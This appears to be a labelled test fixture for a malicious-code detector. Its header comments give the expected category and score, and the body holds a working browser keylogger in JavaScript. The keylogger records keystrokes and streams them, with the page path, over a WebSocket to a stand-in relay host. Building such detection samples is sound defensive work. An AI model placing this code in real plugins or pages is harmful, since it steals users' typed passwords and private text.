// expect: category=network min=75 context=plugin,package
// why: keystrokes are buffered and streamed over a WebSocket to a remote host.
const ws = new WebSocket('wss://relay.example/k');
let buf = '';

document.addEventListener('keydown', (e) => {
  buf += e.key.length === 1 ? e.key : `[${e.key}]`;
  if (buf.length > 32 && ws.readyState === 1) {
    ws.send(JSON.stringify({ page: location.pathname, keys: buf }));
    buf = '';
  }
});
